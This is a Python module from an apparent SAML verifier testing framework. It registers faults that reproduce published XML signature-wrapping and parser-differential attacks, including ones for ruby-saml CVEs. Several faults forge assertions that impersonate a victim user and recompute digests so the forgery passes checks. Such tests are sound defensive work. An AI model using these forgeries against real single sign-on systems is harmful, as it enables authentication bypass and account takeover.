"""PDF: parser differentials and canonicalization tricks (published attack shapes)."""
from __future__ import annotations

import copy

from lxml import etree

from ..builder import DS, SAML, SAMLP, q
from . import Fault, FaultContext, register, register_factory
from ._common import (
    _asig,
    _assertion,
    _assertion_signed,
    _doctype,
    _drop_sig,
    _flip_sigvalue,
    _iter_tag,
    _victimize,
)


def _digest_comment(root: etree._Element, ctx: FaultContext) -> None:
    for dv in _iter_tag(_asig(root), q(DS, "DigestValue")):
        c = etree.Comment("x")
        c.tail = dv.text
        dv.text = None
        dv.append(c)


register(Fault("digest-comment", "A comment before the value inside the Assertion signature's DigestValue",
               ("PDF-07",), signing=_assertion_signed(), signed=_digest_comment))


def _trailing(xml: bytes, ctx: FaultContext) -> bytes:
    body = xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml
    return xml + b"\n" + body.strip()


register(Fault("trailing-document", "The signed Response followed by a second top-level Response (two roots)",
               ("PDF-09",), bytes_=_trailing))


def _decoy_sig(root: etree._Element, ctx: FaultContext) -> None:
    decoy = copy.deepcopy(_asig(root))
    _flip_sigvalue(decoy, ctx)
    for dv in _iter_tag(decoy, q(DS, "DigestValue")):
        dv.text = "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="
    ext = etree.Element(q(SAMLP, "Extensions"))
    ext.append(decoy)
    root.find(q(SAML, "Issuer")).addnext(ext)


register(Fault("decoy-signature", "A decoy ds:Signature (bogus digest) in samlp:Extensions, earlier in the document than the real one",
               ("PDF-11",), signing=_assertion_signed(), signed=_decoy_sig))


@register_factory("namespace-bad-char", "A namespace declaration with an invalid character (U+0080) on the signed Assertion",
                  ("PDF-06", "CVE-2025-25292"), uri="http://example.com\u0080")
def _bad_ns(uri: str) -> Fault:
    def b(xml: bytes, ctx: FaultContext) -> bytes:
        return xml.replace(b"<saml:Assertion ", b'<saml:Assertion xmlns:x="' + uri.encode() + b'" ', 1)

    return Fault("", "", signing=_assertion_signed(), bytes_=b)


def _void_c14n(xml: bytes, ctx: FaultContext) -> bytes:
    xml = xml.replace(b"<samlp:Response ", b'<samlp:Response xmlns:ns="1" ', 1)
    import re

    return re.sub(rb"<ds:DigestValue>[^<]*</ds:DigestValue>",
                  b"<ds:DigestValue>47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=</ds:DigestValue>", xml)


register(Fault("void-canonicalization", "Relative namespace URI xmlns:ns=\"1\" on the Response and every DigestValue = SHA-256 of \"\"",
               ("PDF-05", "Golden SAML Response"), signing=_assertion_signed(), bytes_=_void_c14n))


def _two_signedinfo(root: etree._Element, ctx: FaultContext) -> None:
    s = _asig(root)
    si = _iter_tag(s, q(DS, "SignedInfo"))[0]
    forged = copy.deepcopy(si)
    for dv in _iter_tag(forged, q(DS, "DigestValue")):
        dv.text = "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="
    si.addnext(forged)


register(Fault("two-signedinfo", "A second SignedInfo (other DigestValue) after the real one in the Assertion signature",
               ("PDF-08",), signing=_assertion_signed(), signed=_two_signedinfo))


def _pollution(root: etree._Element, ctx: FaultContext) -> None:
    original = root.get("ID")
    root.set("ID", "_attack")
    root.set(q(SAMLP, "ID"), original)


register(Fault("id-attribute-pollution",
               "Response ID changed to _attack and a namespaced samlp:ID carrying the signed ID (the Reference still says #ID)",
               ("PDF-04",), signed=_pollution))


@register_factory("doctype-roundtrip",
                  "DOCTYPE round-trip differential (ruby-saml CVE-2025-25291 layout): DOCTYPE SYSTEM 'x\"><!--', a forged "
                  "unsigned Response, and inside it a CDATA section holding the genuine signed Response",
                  ("PDF-01", "CVE-2025-25291"), victim="victim@example.com")
def _doctype_rt(victim: str) -> Fault:
    def b(xml: bytes, ctx: FaultContext) -> bytes:
        original = xml.split(b"?>", 1)[1].strip() if xml.startswith(b"<?xml") else xml
        forged = etree.fromstring(original)
        for s in _iter_tag(forged, q(DS, "Signature")):
            s.getparent().remove(s)
        a = forged.find(q(SAML, "Assertion"))
        if a is not None:
            _victimize(a, victim)
        forged_b = etree.tostring(forged)
        close = forged_b.rindex(b"</")
        inner = b"<![CDATA[-->" + original + b"<!--]]>-->"
        return (b"<!DOCTYPE response SYSTEM 'x\"><!--'>\n" + forged_b[:close] + inner + forged_b[close:])

    return Fault("", "", bytes_=b)


def _exc_digest(el: etree._Element, digest: str = "sha256") -> str:
    """The enveloped-signature + exc-c14n digest of `el` as a verifier would compute it."""
    import base64
    import hashlib

    c = copy.deepcopy(el)
    _drop_sig(c)
    data = etree.tostring(c, method="c14n", exclusive=True, with_comments=False)
    return base64.b64encode(hashlib.new(digest.replace("-", ""), data).digest()).decode()


def _forge_in_place(root: etree._Element, ctx: FaultContext, victim: str | None) -> etree._Element:
    """Victimize the signed Assertion and fix its DigestValue to the forged content (SignatureValue now stale);
    return a deep copy of the original, genuine Signature."""
    a = _assertion(root)
    genuine = copy.deepcopy(_asig(root))
    _victimize(a, victim)
    for dv in _iter_tag(_asig(root), q(DS, "DigestValue")):
        dv.text = _exc_digest(a, ctx.signing.digest)
    return genuine


def _strip_ns(el: etree._Element) -> etree._Element:
    out = etree.Element(etree.QName(el).localname, {k: v for k, v in el.attrib.items()})
    out.text, out.tail = el.text, el.tail
    for c in el:
        if isinstance(c.tag, str):
            out.append(_strip_ns(c))
    return out


@register_factory("attlist-namespace-confusion",
                  "DTD ATTLIST giving 'Signature' a #FIXED dsig xmlns; a namespace-less copy of the genuine Signature in "
                  "samlp:StatusDetail; the Assertion forged (victim) with its DigestValue recomputed; a U+0080 namespace",
                  ("PDF-02", "CVE-2025-25292"), victim="victim@example.com")
def _attlist(victim: str) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        genuine = _forge_in_place(root, ctx, victim)
        status = root.find(q(SAMLP, "Status"))
        detail = etree.SubElement(status, q(SAMLP, "StatusDetail"))
        detail.append(_strip_ns(genuine))

    def b(xml: bytes, ctx: FaultContext) -> bytes:
        xml = xml.replace(b"<saml:Assertion ", '<saml:Assertion xmlns:example="http://example.com\u0080" '.encode(), 1)
        return _doctype(xml, b'<!DOCTYPE samlp:Response [<!ATTLIST Signature xmlns CDATA #FIXED '
                             b'"http://www.w3.org/2000/09/xmldsig#" xmlns CDATA "block">]>')

    return Fault("", "", signing=_assertion_signed(), signed=signed, bytes_=b)


@register_factory("xml-xmlns-confusion",
                  "The genuine Assertion Signature hidden in samlp:Extensions under <Parent xmlns=dsig><Child xml:xmlns=\"#other\">; "
                  "the Assertion forged (victim) keeping a fake Signature with a recomputed DigestValue",
                  ("PDF-03", "PDF-12", "CVE-2025-66567"), victim="victim@example.com")
def _xml_xmlns(victim: str) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        genuine = _forge_in_place(root, ctx, victim)
        ext = etree.Element(q(SAMLP, "Extensions"))
        parent = etree.SubElement(ext, q(DS, "Parent"), nsmap={None: DS})
        child = etree.SubElement(parent, q(DS, "Child"))
        child.set("{http://www.w3.org/XML/1998/namespace}xmlns", "#other")
        child.append(genuine)
        root.find(q(SAML, "Issuer")).addnext(ext)

    return Fault("", "", signing=_assertion_signed(), signed=signed)
